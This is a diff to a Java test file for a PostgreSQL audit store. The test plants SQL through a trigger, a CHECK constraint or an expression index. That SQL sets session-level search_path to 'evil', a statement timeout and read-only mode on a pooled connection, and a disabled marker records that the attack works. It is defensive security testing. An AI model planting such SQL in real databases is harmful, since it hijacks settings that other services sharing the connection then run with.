@@ -24,6 +24,8 @@ import org.junit.jupiter.api.Disabled;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.condition.EnabledIf;
 import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import javax.sql.DataSource;
 import org.postgresql.ds.PGSimpleDataSource;
 
@@ -212,10 +214,13 @@ class Attack18fTest {
   // default_transaction_read_only … .
   // ---------------------------------------------------------------------------------------------------------------
 
-  @Test
-  @Disabled("attack18f: works — a trigger on audit_log sets session-level search_path/statement_timeout/read-only "
-      + "inside the append transaction; the host's pooled connection keeps them after append returns")
-  void triggerOnAuditLog_changesSessionSettingsOfTheHostsPooledConnection(PostgresDatabase db) throws Exception {
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"trigger", "check constraint", "expression index"})
+  @Disabled("attack18f: works — attacker code run by the append (a trigger, a CHECK constraint or an expression index "
+      + "on audit_log) sets session-level search_path/statement_timeout/read-only; the host's pooled connection "
+      + "keeps them after append returns")
+  void attackersCodeInTheAppend_changesSessionSettingsOfTheHostsPooledConnection(String how, PostgresDatabase db)
+      throws Exception {
     PGSimpleDataSource ds = nodeRole(db);
     try (Connection pooled = ds.getConnection()) {
       DataSource pool = oneConnectionPool(pooled);
@@ -224,20 +229,32 @@ class Attack18fTest {
       String readOnlyBefore = show(pooled, "default_transaction_read_only");
       try (AuditStore store = PostgresAuditStore.builder(pool).macKey(key()).open()) {
         store.append(AuditEvent.builder("admin.action").actor("alice").message("before").build());
-        asNode(ds,
-            "CREATE FUNCTION public.leak() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
-                + "PERFORM pg_catalog.set_config('search_path', 'evil, pg_catalog, public', false); "
-                + "PERFORM pg_catalog.set_config('statement_timeout', '4711', false); "
-                + "PERFORM pg_catalog.set_config('default_transaction_read_only', 'on', false); "
-                + "RETURN NULL; END $$",
-            "CREATE TRIGGER leak AFTER INSERT ON public.audit_log FOR EACH STATEMENT EXECUTE FUNCTION public.leak()");
+        String leak = "PERFORM pg_catalog.set_config('search_path', 'evil, pg_catalog, public', false); "
+            + "PERFORM pg_catalog.set_config('statement_timeout', '4711', false); "
+            + "PERFORM pg_catalog.set_config('default_transaction_read_only', 'on', false); ";
+        switch (how) {
+          case "trigger" -> asNode(ds,
+              "CREATE FUNCTION public.leak() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN " + leak
+                  + "RETURN NULL; END $$",
+              "CREATE TRIGGER leak AFTER INSERT ON public.audit_log FOR EACH STATEMENT "
+                  + "EXECUTE FUNCTION public.leak()");
+          case "check constraint" -> asNode(ds,
+              "CREATE FUNCTION public.leak(bigint) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN "
+                  + "IF $1 > 1 THEN " + leak + "END IF; RETURN true; END $$",
+              "ALTER TABLE public.audit_log ADD CONSTRAINT leak CHECK (public.leak(seq))");
+          default -> asNode(ds,
+              "CREATE FUNCTION public.leak(bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN "
+                  + "IF $1 > 1 THEN " + leak + "END IF; RETURN $1; END $$",
+              "CREATE INDEX leak ON public.audit_log ((public.leak(seq)))");
+        }
         store.append(AuditEvent.builder("admin.action").actor("alice").message("after").build());
+        assertTrue(store.verify().valid());
         // what the host's next user of the pooled connection (e.g. the auth service) runs with
         String path = show(pooled, "search_path");
         String timeout = show(pooled, "statement_timeout");
         String readOnly = show(pooled, "default_transaction_read_only");
         assertEquals(List.of(pathBefore, timeoutBefore, readOnlyBefore), List.of(path, timeout, readOnly),
-            "the pooled connection kept the trigger's session settings");
+            "the pooled connection kept the session settings of the attacker's " + how);
       }
     }
   }
